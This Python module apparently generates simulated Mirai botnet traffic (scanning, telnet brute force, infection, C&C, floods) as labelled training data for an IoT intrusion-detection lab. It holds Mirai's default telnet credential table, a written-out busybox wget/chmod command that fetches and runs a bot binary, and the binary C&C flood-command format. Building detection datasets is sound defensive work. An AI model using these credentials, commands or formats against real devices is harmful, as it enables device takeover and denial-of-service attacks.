"""Mirai: telnet scanning and credential brute force, infection, command and control, then floods.

Modelled on the published Mirai source (``bot/scanner.c``, ``bot/attack_*.c``) and the IoT-23 Mirai captures:

1. **Scan** (PortScan, ``mirai-scan``): an already infected device sends raw SYNs to TCP 23 (and 2323 for one
   probe in ten) from one fixed source port, with the target address as the sequence number, a random window
   and IP ID and no options, to random internet addresses and to the addresses of its own LAN (ARP first).
2. **Brute force** (BruteForce, ``telnet-bruteforce``): to every device that answered with SYN/ACK it logs in
   over telnet with credentials from Mirai's table, one pair per connection, until one works; then it checks
   for a BusyBox shell (``/bin/busybox MIRAI``), has the victim fetch the bot binary, and reports the victim
   to the report server on TCP 48101 (Botnet, ``mirai-report``).
3. **Infection** (Botnet, ``mirai-download``): the victim downloads the binary over HTTP, then kills its telnet
   daemon (later scans find the port closed).
4. **Command and control** (Botnet, ``mirai-cnc``): every bot resolves the C&C name through 8.8.8.8 (not the
   LAN resolver), connects to the C&C on TCP 23, introduces itself, and exchanges two-byte keep-alives every
   minute; attack commands arrive on that connection in Mirai's binary format.
5. **Floods** (DDoS): all bots flood one internet server: ``syn-flood`` (random source ports, Mirai's 20 bytes
   of options), ``ack-flood`` (random ports, sequence numbers and 512-byte payloads), ``udp-flood`` (udpplain:
   one socket, 512-byte payloads) and ``http-flood`` (keep-alive connections repeating GET /).

Flood rates are scaled down from real bots (thousands of packets per second) to keep captures small.

:func:`run_campaign` (attack kind ``mirai-floods``) is steps 4 and 5 alone, many times over: bots infected
before the capture take a campaign of flood orders with varied rates, lengths, payloads and crews (training
data for floods).
"""

from __future__ import annotations

import random
import struct

import numpy as np

from iotguard.lab import bulk
from iotguard.lab.attacks.common import OPEN, outcome_for, syn_probes, targets_for
from iotguard.lab.network import ATTACKER_RANGES, LINUX, Host
from iotguard.lab.packets import ACK, RST, SYN
from iotguard.lab.proto import http, telnet
from iotguard.lab.sim import Sim, World
from iotguard.lab.tcp import TcpConn

# scanner.c: the credential table (user, password, weight)
CREDENTIALS = (
    ("root", "xc3511"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("admin", "admin"),
    ("root", "888888"),
    ("root", "xmhdipc"),
    ("root", "default"),
    ("root", "juantech"),
    ("root", "123456"),
    ("root", "54321"),
    ("support", "support"),
    ("root", ""),
    ("admin", "password"),
    ("root", "root"),
    ("root", "12345"),
    ("user", "user"),
    ("admin", ""),
    ("root", "pass"),
    ("admin", "admin1234"),
    ("root", "1111"),
    ("admin", "smcadmin"),
    ("admin", "1111"),
    ("root", "666666"),
    ("root", "password"),
    ("root", "1234"),
    ("root", "klv123"),
    ("Administrator", "admin"),
    ("service", "service"),
    ("supervisor", "supervisor"),
    ("guest", "guest"),
    ("guest", "12345"),
    ("admin1", "password"),
    ("administrator", "1234"),
    ("666666", "666666"),
    ("888888", "888888"),
    ("ubnt", "ubnt"),
    ("root", "klv1234"),
    ("root", "Zte521"),
    ("root", "hi3518"),
    ("root", "jvbzd"),
    ("root", "anko"),
    ("root", "zlxx."),
    ("root", "7ujMko0vizxv"),
    ("root", "7ujMko0admin"),
    ("root", "system"),
    ("root", "ikwb"),
    ("root", "dreambox"),
    ("root", "user"),
    ("root", "realtek"),
    ("root", "00000000"),
    ("admin", "1111111"),
    ("admin", "1234"),
    ("admin", "12345"),
    ("admin", "54321"),
    ("admin", "123456"),
    ("admin", "7ujMko0admin"),
    ("admin", "pass"),
    ("admin", "meinsm"),
    ("tech", "tech"),
)
USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/51.0.2704.103 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/52.0.2743.116 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_6) AppleWebKit/601.7.7 (KHTML, like Gecko) Version/9.1.2 Safari/601.7.7",
)
VECTORS = {"udp": 9, "syn": 3, "ack": 4, "http": 10}  # attack vector ids (bot/attack.h)
FLOOD_LABELS = {"syn": "syn-flood", "ack": "ack-flood", "udp": "udp-flood", "http": "http-flood"}
CNC_NAME = "cnc.changeme.example"
BANNER = b"\r\n\r\nBusyBox v1.19.3 (2016-03-09 13:40:09 CST) built-in shell (ash)\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# "

Order = tuple[float, str, float, Host, dict]
"""A flood order of the C&C: when, which vector, for how long (s), against whom, with which options the
command spells out (``payload_bytes``: Mirai's ``len``; ``http_conns``: ``conns``; none: the bot's defaults)."""

DEFAULTS = {
    "scan_pps": 40.0,  # SYN probes per second from a scanning bot
    "internet_blocks": 6,  # /24s of internet addresses the scan wanders through
    "floods": ("syn", "udp", "http"),
    "flood_pps": 150.0,  # packets per second per bot (SYN, ACK, UDP floods)
    "flood_seconds": 0.1,  # each flood lasts this fraction of the attack window
    "http_conns": 4,  # concurrent connections per bot in an HTTP flood
    "max_infections": 2,
}


def run(sim: Sim, world: World, start: float, end: float, params: dict) -> None:
    p = DEFAULTS | params
    rng = sim.rng("mirai")
    npr = sim.nprng("mirai")
    span = end - start
    net = sim.net
    candidates = (
        [d for d in world.of_kind("camera", "plug") if 23 in d.tcp_open]
        or world.of_kind("camera", "plug")
        or world.devices
    )
    bot0 = candidates[rng.randrange(len(candidates))]
    cnc = net.add_external(
        "mirai-cnc", "cnc", net.public_address(rng, block=ATTACKER_RANGES[0]), LINUX, delay=0.045
    )
    report = net.add_external(
        "mirai-report", "cnc", net.public_address(rng, block=ATTACKER_RANGES[0]), LINUX, delay=0.045
    )
    loader = net.add_external(
        "mirai-dl", "cnc", net.public_address(rng, block=ATTACKER_RANGES[1]), LINUX, delay=0.05
    )
    target = net.add_external("ddos-target", "target", net.public_address(rng), LINUX, delay=0.03)
    resolver = net.hosts.get("google-dns") or net.add_external(
        "google-dns", "resolver", "8.8.8.8", LINUX, delay=0.006
    )
    sim.names[CNC_NAME] = [cnc.ip]

    # 1-3: bot0 scans; the telnet devices it finds are brute-forced and infected in turn
    scan_end = start + 0.35 * span
    lan_found = _scan(sim, world, bot0, start, scan_end, p, npr)
    bots: list[tuple[Host, float]] = [(bot0, start)]
    brute_tag = {}
    t = start + 0.05 * span
    for victim, found_at in lan_found[: int(p["max_infections"])]:
        if victim not in brute_tag:
            brute_tag[victim] = sim.episode(bot0.ip, victim.ip, "telnet-bruteforce", "BruteForce")
        t = max(t, found_at + rng.uniform(0.5, 3.0))
        t, creds = _bruteforce(sim, bot0, victim, t, brute_tag[victim], rng, loader)
        t = _report(sim, bot0, report, victim, creds, t + rng.uniform(0.05, 0.3), rng)
        t_inf = _download(sim, victim, loader, t + rng.uniform(0.2, 1.0), rng)
        victim.tcp_open.pop(23, None)  # the new bot kills telnetd so that nobody else gets in
        bots.append((victim, t_inf + rng.uniform(0.5, 2.0)))

    # 5: the C&C orders the floods one after another, from the middle of the window
    flood_len = max(2.0, float(p["flood_seconds"]) * span)
    t_cmd = start + 0.5 * span
    orders: list[Order] = []
    for vector in p["floods"]:
        if t_cmd + flood_len > end:
            break
        orders.append((t_cmd, vector, flood_len, target, {}))
        t_cmd += flood_len + rng.uniform(0.02, 0.06) * span
    # 4: C&C sessions, carrying those orders
    for bot, since in bots:
        _cnc(sim, bot, cnc, resolver, since, end, orders, rng)
    for at, vector, length, _, _ in orders:
        for bot, since in bots:
            if since < at:
                tag = sim.episode(bot.ip, target.ip, FLOOD_LABELS[vector], "DDoS")
                _flood(
                    sim,
                    bot,
                    target,
                    vector,
                    at + 2 * bot.delay + rng.uniform(0.001, 0.05),
                    length,
                    p,
                    tag,
                    sim.nprng("flood", bot.name, vector),
                    rng,
                )


CAMPAIGN = {
    "bots": 5,  # infected devices taking orders (cameras and plugs first)
    "orders": 40,  # flood orders, one after another, each against a new target
    "floods": ("udp", "syn", "ack", "http"),  # vectors, in equal shares
    "pps": (20.0, 1000.0),  # packets per second of one bot in one flood, log-uniform
    "seconds": (2.0, 30.0),  # length of a flood, log-uniform (at most 85% of its share of the window)
    "default_payload": 0.5,  # share of UDP and ACK floods with Mirai's default 512-byte payload
    "payload_bytes": (64, 1400),  # the others' payload (the command's ``len``), log-uniform
    "http_conns": (1, 8),  # connections per bot of an HTTP flood (the command's ``conns``; Mirai's default 1)
    "single": 0.25,  # share of orders carried out by one bot alone
}


def run_campaign(sim: Sim, world: World, start: float, end: float, params: dict) -> None:
    """Bots infected before the capture starts take flood orders from their C&C: every vector, at rates,
    lengths, payload sizes and numbers of bots drawn per order (``CAMPAIGN``), each order against a new
    internet target. Only the C&C sessions and the floods are on the wire (no scan, no infection).

    Mirai's flood loops have no rate limit: a bot sends as fast as its CPU and uplink let it. For 512-byte
    payloads an uplink of 1 to 40 Mbit/s is about 200 to 10,000 packets a second; the lab divides by ten
    (``pps``). Bots differ, so each bot of an order draws its own rate. The C&C can order a flood from a
    subset of its bots (``-N``) or one alone (``single``)."""
    p = CAMPAIGN | params
    rng = sim.rng("mirai-campaign")
    net = sim.net
    # Mirai runs on Linux devices: cameras and (in the lab) plugs first, other devices only to make up numbers
    candidates = world.of_kind("camera", "plug")
    others = [d for d in world.devices if d not in candidates]
    want = max(1, int(p["bots"]))
    bots = rng.sample(candidates, min(len(candidates), want))
    bots += rng.sample(others, min(len(others), want - len(bots)))
    cnc = net.add_external(
        "mirai-cnc", "cnc", net.public_address(rng, block=ATTACKER_RANGES[0]), LINUX, delay=0.045
    )
    resolver = net.hosts.get("google-dns") or net.add_external(
        "google-dns", "resolver", "8.8.8.8", LINUX, delay=0.006
    )
    sim.names[CNC_NAME] = [cnc.ip]

    def log_uniform(bounds: tuple[float, float]) -> float:
        low, high = (float(b) for b in bounds)
        return float(np.exp(rng.uniform(np.log(low), np.log(high))))

    n = int(p["orders"])
    vectors = [p["floods"][k % len(p["floods"])] for k in range(n)]
    rng.shuffle(vectors)
    first = start + min(5.0, 0.05 * (end - start))  # the bots' C&C sessions come up first
    slot = (end - first) / max(n, 1)
    orders: list[Order] = []
    crews: list[list[Host]] = []
    for k, vector in enumerate(vectors):
        at = first + k * slot + rng.uniform(0.0, 0.1) * slot
        length = min(log_uniform(p["seconds"]), 0.85 * slot)
        options: dict = {}
        if vector in ("udp", "ack") and rng.random() >= float(p["default_payload"]):
            options["payload_bytes"] = round(log_uniform(p["payload_bytes"]))
        if vector == "http":
            options["http_conns"] = round(log_uniform(p["http_conns"]))
        target = net.add_external(
            f"ddos-target-{k + 1}", "target", net.public_address(rng), LINUX, delay=rng.uniform(0.01, 0.12)
        )
        size = 1 if rng.random() < float(p["single"]) or len(bots) == 1 else rng.randint(2, len(bots))
        orders.append((at, vector, length, target, options))
        crews.append(sorted(rng.sample(bots, size), key=bots.index))
    for bot in bots:  # each bot hears the orders it takes part in
        mine = [order for order, crew in zip(orders, crews, strict=True) if bot in crew]
        _cnc(sim, bot, cnc, resolver, start + rng.uniform(0.0, 2.0), end, mine, rng)
    for k, ((at, vector, length, target, options), crew) in enumerate(zip(orders, crews, strict=True)):
        for bot in crew:
            tag = sim.episode(bot.ip, target.ip, FLOOD_LABELS[vector], "DDoS")
            knobs = {"flood_pps": log_uniform(p["pps"]), "http_conns": options.get("http_conns", 1)}
            knobs |= {"payload_bytes": options.get("payload_bytes", 512)}
            _flood(
                sim,
                bot,
                target,
                vector,
                at + 2 * bot.delay + rng.uniform(0.001, 0.05),
                length,
                knobs,
                tag,
                sim.nprng("campaign-flood", bot.name, k),
                rng,
            )


# -- scanning ------------------------------------------------------------------------------------------------


def _scan(
    sim: Sim, world: World, bot: Host, start: float, end: float, p: dict, npr: np.random.Generator
) -> list[tuple[Host, float]]:
    """Telnet SYN scan; returns the LAN devices that answered on port 23, in the order they were found."""
    rng = sim.rng("mirai-scan")
    lan = [
        h
        for h in sim.net.hosts.values()
        if h.local and h is not bot and h.kind != "gateway" and not world.talks(bot, h)
    ]
    n = max(len(lan) + 1, int(float(p["scan_pps"]) * (end - start)))
    # random internet addresses, each probed once (Mirai's generator rarely repeats itself)
    blocks = [sim.net.public_block(rng) for _ in range(max(int(p["internet_blocks"]), -(-2 * n // 254)))]
    pick = npr.choice(len(blocks) * 254, size=n, replace=False)
    block_of = pick // 254
    internet = [
        str(blocks[b].network_address + 1 + int(x))
        for b, x in zip(block_of.tolist(), (pick % 254).tolist(), strict=True)
    ]
    targets = targets_for(sim, lan, internet, npr)
    which = np.arange(len(lan), len(lan) + n)
    times = np.sort(npr.uniform(start, end, n))
    ports = np.where(npr.random(n) < 0.1, 2323, 23)
    # sprinkle the LAN addresses into the probe stream, each probed on port 23
    slots = np.sort(npr.choice(n, size=len(lan), replace=False))
    which[slots] = npr.permutation(len(lan))
    ports[slots] = 23
    outcome = outcome_for(targets, which, ports, internet_open=0.01, internet_closed=0.08, rng=npr)
    tags: dict[str, int] = {}
    tag_of = np.zeros(n, dtype=np.int32)
    for i, w in enumerate(which.tolist()):
        host = targets.hosts[w]
        key = host.ip if host is not None else str(blocks[block_of[w - len(lan)]])
        if key not in tags:
            tags[key] = sim.episode(bot.ip, key, "mirai-scan", "PortScan")
        tag_of[i] = tags[key]
    addr = targets.addresses[which].astype(np.int64)
    seq = (addr[:, 0] << 24) | (addr[:, 1] << 16) | (addr[:, 2] << 8) | addr[:, 3]  # scanner.c: seq = daddr
    sport = rng.randrange(1024, 65535)  # one source port for the whole scan
    for i in slots.tolist():  # the bot ARPs for LAN targets before it can send them anything
        times[i] = sim.arp(float(times[i]), bot, targets.hosts[which[i]], int(tag_of[i]))
    for tag in np.unique(tag_of):
        sel = np.flatnonzero(tag_of == tag)
        syn_probes(
            sim,
            bot,
            targets,
            which[sel],
            ports[sel],
            times[sel],
            outcome[sel],
            sport=sport,
            seq=seq[sel],
            window=npr.integers(0, 65536, len(sel)),
            options=b"",
            ident=npr.integers(0, 65536, len(sel)),
            tag=int(tag),
            rng=npr,
        )
    found = [(targets.hosts[which[i]], float(times[i])) for i in slots.tolist() if outcome[i] == OPEN]
    return sorted(found, key=lambda f: f[1])


# -- brute force, report, download ------------------------------------------------------------------------


def _bruteforce(
    sim: Sim, bot: Host, victim: Host, t: float, tag: int, rng: random.Random, loader: Host
) -> tuple[float, tuple[str, str]]:
    """Login attempts, one credential per connection, until the victim's weak password turns up."""
    tries = [CREDENTIALS[i] for i in rng.sample(range(len(CREDENTIALS)), rng.randrange(3, 9))]
    prompt = b"\r\n(none) login: "
    for k, (user, password) in enumerate(tries):
        success = k == len(tries) - 1
        conn = TcpConn(sim, bot, victim, 23, tag=tag, rng=rng)
        t = conn.connect(t)
        t = conn.send(conn.reply_at(t, victim, rng.uniform(0.005, 0.02)), False, telnet.SERVER_HELLO)
        t = conn.send(conn.reply_at(t, bot, rng.uniform(5e-4, 3e-3)), True, telnet.MIRAI_REPLY)
        t = conn.send(conn.reply_at(t, victim, rng.uniform(0.002, 0.01)), False, prompt)
        t = conn.send(conn.reply_at(t, bot, rng.uniform(5e-4, 3e-3)), True, user.encode() + b"\r\n")
        t = conn.send(
            conn.reply_at(t, victim, rng.uniform(0.002, 0.01)), False, user.encode() + b"\r\nPassword: "
        )
        t = conn.send(conn.reply_at(t, bot, rng.uniform(5e-4, 3e-3)), True, password.encode() + b"\r\n")
        if not success:
            t = conn.send(
                conn.reply_at(t, victim, rng.uniform(1.0, 2.5)), False, b"\r\nLogin incorrect" + prompt
            )
            t = conn.close(conn.reply_at(t, bot, rng.uniform(1e-3, 0.01)), from_client=True)
            t += rng.uniform(0.05, 0.5)
            continue
        t = conn.send(conn.reply_at(t, victim, rng.uniform(0.05, 0.2)), False, BANNER)
        for command, answer in (
            (b"enable", b"-sh: enable: not found"),
            (b"system", b"-sh: system: not found"),
            (b"shell", b"-sh: shell: not found"),
            (b"sh", b""),
            (b"/bin/busybox MIRAI", b"MIRAI: applet not found"),
        ):
            t = conn.send(conn.reply_at(t, bot, rng.uniform(5e-4, 3e-3)), True, command + b"\r\n")
            t = conn.send(
                conn.reply_at(t, victim, rng.uniform(0.005, 0.03)),
                False,
                command + b"\r\n" + (answer + b"\r\n" if answer else b"") + b"# ",
            )
        fetch = f"/bin/busybox wget http://{loader.ip}/bins/mirai.arm7 -O /tmp/.m; /bin/busybox chmod 777 /tmp/.m; /tmp/.m telnet.arm7".encode()
        t = conn.send(conn.reply_at(t, bot, rng.uniform(5e-4, 3e-3)), True, fetch + b"\r\n")
        t = conn.send(
            conn.reply_at(t, victim, rng.uniform(0.3, 0.8)),
            False,
            fetch + b"\r\nConnecting to " + loader.ip.encode() + b" (" + loader.ip.encode() + b":80)\r\n",
        )
        t = conn.close(t + rng.uniform(0.5, 1.5), from_client=True)
        return t, (user, password)
    raise AssertionError("unreachable")


def _report(
    sim: Sim, bot: Host, report: Host, victim: Host, creds: tuple[str, str], t: float, rng: random.Random
) -> float:
    tag = sim.episode(bot.ip, report.ip, "mirai-report", "Botnet")
    conn = TcpConn(sim, bot, report, 48101, tag=tag, rng=rng)
    t = conn.connect(t)
    user, password = (c.encode() for c in creds)
    body = (
        b"\x00"
        + victim.ip_b
        + struct.pack("!H", 23)
        + bytes((len(user),))
        + user
        + bytes((len(password),))
        + password
    )
    t = conn.send(t + 1e-4, True, body)
    return conn.close(t + rng.uniform(1e-3, 5e-3), from_client=True)


def _download(sim: Sim, victim: Host, loader: Host, t: float, rng: random.Random) -> float:
    tag = sim.episode(victim.ip, loader.ip, "mirai-download", "Botnet")
    conn = TcpConn(sim, victim, loader, 80, tag=tag, rng=rng)
    t = conn.connect(t)
    req = f"GET /bins/mirai.arm7 HTTP/1.0\r\nHost: {loader.ip}\r\nUser-Agent: Wget\r\nConnection: close\r\n\r\n".encode()
    elf = b"\x7fELF\x01\x01\x01\x61" + rng.randbytes(rng.randrange(55_000, 75_000))
    resp = http.response(200, elf, content_type="application/octet-stream", server="Apache/2.4.18 (Ubuntu)")
    t = conn.request(t + 1e-4, req, resp, think=rng.uniform(0.002, 0.01))
    return conn.close(t + 1e-3, from_client=False)


# -- command and control ---------------------------------------------------------------------------------


def _command(vector: str, duration: int, target: Host, options: dict | None = None) -> bytes:
    opts = b""
    if vector == "http":
        domain = target.ip.encode()
        opts = bytes((8, len(domain))) + domain + bytes((7, 2)) + b"80" + bytes((20, 3)) + b"GET"
    elif vector == "syn":
        opts = bytes((7, 2)) + b"80"
    for key, name in ((0, "payload_bytes"), (24, "http_conns")):  # ATK_OPT_PAYLOAD_SIZE, ATK_OPT_CONNS
        if name in (options or {}):
            value = str(int(options[name])).encode()
            opts += bytes((key, len(value))) + value
    body = (
        struct.pack("!IBB", duration, VECTORS[vector], 1)
        + target.ip_b
        + bytes((32, _count_opts(opts)))
        + opts
    )
    return struct.pack("!H", len(body) + 2) + body


def _count_opts(opts: bytes) -> int:
    count, i = 0, 0
    while i < len(opts):
        i += 2 + opts[i + 1]
        count += 1
    return count


def _cnc(
    sim: Sim,
    bot: Host,
    cnc: Host,
    resolver: Host,
    since: float,
    end: float,
    orders: list[Order],
    rng: random.Random,
) -> None:
    tag = sim.episode(bot.ip, cnc.ip, "mirai-cnc", "Botnet")
    dns_tag = sim.episode(bot.ip, resolver.ip, "mirai-cnc", "Botnet")
    t, _ = sim.resolve(since, bot, CNC_NAME, server=resolver, tag=dns_tag)
    conn = TcpConn(sim, bot, cnc, 23, tag=tag, rng=rng)
    t = conn.connect(t)
    ident = b"telnet.arm7"
    t = conn.send(t + 1e-4, True, b"\x00\x00\x00\x01")
    t = conn.send(t + 1e-4, True, bytes((len(ident),)) + ident)
    events = [(t + 60 * k, "ping", None) for k in range(1, int((end - t) // 60) + 1)]
    events += [(order[0] - 0.01, "order", order) for order in orders if order[0] > t]
    for at, kind, what in sorted(events, key=lambda e: e[0]):
        at = max(at, t + 1e-3)
        if at >= end:
            break
        if kind == "ping":
            t = conn.send(at, True, b"\x00\x00")
            t = conn.send(conn.reply_at(t, cnc, 1e-3), False, b"\x00\x00")
        else:
            _, vector, length, target, options = what
            command = _command(vector, int(length), target, options)
            t = conn.send(max(at - 2 * cnc.delay, t + 1e-3), False, command)
    conn.finish()


# -- floods ----------------------------------------------------------------------------------------------------


def _flood(
    sim: Sim,
    bot: Host,
    target: Host,
    vector: str,
    start: float,
    length: float,
    p: dict,
    tag: int,
    npr: np.random.Generator,
    rng: random.Random,
) -> None:
    end = min(start + length, sim.duration)
    if vector == "http":
        _http_flood(sim, bot, target, start, end, int(p["http_conns"]), tag, rng)
        return
    n = max(1, int(float(p["flood_pps"]) * (end - start)))
    times = start + np.sort(npr.uniform(0, end - start, n))
    src_mac, dst_mac = sim.net.macs(bot, target)
    if vector == "syn":
        sport = npr.integers(1024, 65536, n)
        seq = npr.integers(0, 2**32, n)
        opts = np.zeros((n, 20), dtype=np.uint8)
        opts[:, 0:2] = (2, 4)
        opts[:, 2:4] = (1400 + npr.integers(0, 16, n)).astype(">u2").view(np.uint8).reshape(n, 2)
        opts[:, 4:6] = (4, 2)
        opts[:, 6:8] = (8, 10)
        opts[:, 8:12] = npr.integers(0, 2**32, n).astype(">u4").view(np.uint8).reshape(n, 4)
        opts[:, 16] = 1
        opts[:, 17:20] = (3, 3, 6)
        frames = bulk.tcp_frames(
            src_mac=src_mac,
            dst_mac=dst_mac,
            src=bot.ip_b,
            dst=target.ip_b,
            sport=sport,
            dport=80,
            seq=seq,
            ack=0,
            flags=SYN,
            window=npr.integers(0, 65536, n),
            n=n,
            options=opts,
            ident=npr.integers(0, 65536, n),
            ttl=bot.ttl,
        )
        sim.cap.add_frames(times, frames, tag)
        # the server answers what its backlog still takes; the bot's kernel resets those
        ans = np.flatnonzero(npr.random(n) < 0.6)
        t_ans = times[ans] + 2 * target.delay + npr.uniform(1e-5, 1e-3, len(ans))
        mss = np.zeros((len(ans), 4), dtype=np.uint8)
        mss[:, 0:4] = (2, 4, 0x05, 0xB4)
        synack = bulk.tcp_frames(
            src_mac=dst_mac,
            dst_mac=src_mac,
            src=target.ip_b,
            dst=bot.ip_b,
            sport=80,
            dport=sport[ans],
            seq=npr.integers(0, 2**32, len(ans)),
            ack=(seq[ans] + 1) & 0xFFFFFFFF,
            flags=SYN | ACK,
            window=64240,
            n=len(ans),
            options=mss,
            ident=0,
            ttl=target.ttl,
        )
        sim.cap.add_frames(t_ans, synack, tag)
        rst = bulk.tcp_frames(
            src_mac=src_mac,
            dst_mac=dst_mac,
            src=bot.ip_b,
            dst=target.ip_b,
            sport=sport[ans],
            dport=80,
            seq=(seq[ans] + 1) & 0xFFFFFFFF,
            ack=0,
            flags=RST,
            window=0,
            n=len(ans),
            ident=npr.integers(0, 65536, len(ans)),
            ttl=bot.ttl,
        )
        sim.cap.add_frames(t_ans + 2 * bot.delay + 2e-5, rst, tag)
    elif vector == "ack":
        sport = npr.integers(1024, 65536, n)
        dport = npr.integers(1, 65536, n)
        seq = npr.integers(0, 2**32, n)
        size = int(p.get("payload_bytes", 512))
        payload = np.frombuffer(npr.bytes(n * size), dtype=np.uint8).reshape(n, size)
        frames = bulk.tcp_frames(
            src_mac=src_mac,
            dst_mac=dst_mac,
            src=bot.ip_b,
            dst=target.ip_b,
            sport=sport,
            dport=dport,
            seq=seq,
            ack=npr.integers(0, 2**32, n),
            flags=ACK,
            window=npr.integers(0, 65536, n),
            n=n,
            payload=payload,
            ident=npr.integers(0, 65536, n),
            ttl=bot.ttl,
        )
        sim.cap.add_frames(times, frames, tag)
        ans = np.flatnonzero(npr.random(n) < 0.3)  # RST for segments of no connection (the rest is filtered)
        rst = bulk.tcp_frames(
            src_mac=dst_mac,
            dst_mac=src_mac,
            src=target.ip_b,
            dst=bot.ip_b,
            sport=dport[ans],
            dport=sport[ans],
            seq=0,
            ack=0,
            flags=RST,
            window=0,
            n=len(ans),
            ident=0,
            ttl=target.ttl,
        )
        sim.cap.add_frames(times[ans] + 2 * target.delay + 1e-4, rst, tag)
    elif vector == "udp":
        size = int(p.get("payload_bytes", 512))
        payload = np.frombuffer(npr.bytes(n * size), dtype=np.uint8).reshape(n, size)
        sport = bot.ephemeral_port()
        dport = int(npr.integers(1, 65536))
        ident = (bot.ident() + np.arange(n)) & 0xFFFF
        frames = bulk.udp_frames(
            src_mac=src_mac,
            dst_mac=dst_mac,
            src=bot.ip_b,
            dst=target.ip_b,
            sport=sport,
            dport=dport,
            payload=payload,
            ident=ident,
            ttl=bot.ttl,
        )
        sim.cap.add_frames(times, frames, tag)
    else:
        raise ValueError(f"unknown flood vector {vector!r}")


def _http_flood(
    sim: Sim, bot: Host, target: Host, start: float, end: float, conns: int, tag: int, rng: random.Random
) -> None:
    # under a flood the target's front end mostly answers with its small rate-limit page
    page = b"<!DOCTYPE html><html><head><title>503 Service Temporarily Unavailable</title></head><body><center><h1>503 Service Temporarily Unavailable</h1></center><hr><center>nginx</center></body></html>"
    for c in range(conns):
        t = start + c * rng.uniform(0.001, 0.05)
        while t < end:
            conn = TcpConn(sim, bot, target, 80, tag=tag, rng=rng)
            t = conn.connect(t)
            for _ in range(rng.randrange(20, 100)):
                if t >= end:
                    break
                req = http.request(
                    "GET",
                    "/",
                    target.ip,
                    [
                        ("User-Agent", rng.choice(USER_AGENTS)),
                        ("Connection", "keep-alive"),
                        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
                        ("Accept-Language", "en-US,en;q=0.8"),
                    ],
                )
                resp = http.response(503, page, content_type="text/html", server="nginx/1.18.0", close=False)
                t = conn.request(t + rng.uniform(1e-4, 2e-3), req, resp, think=rng.uniform(0.001, 0.01))
            t = conn.close(t + rng.uniform(1e-4, 1e-3), from_client=False) + rng.uniform(0.001, 0.02)
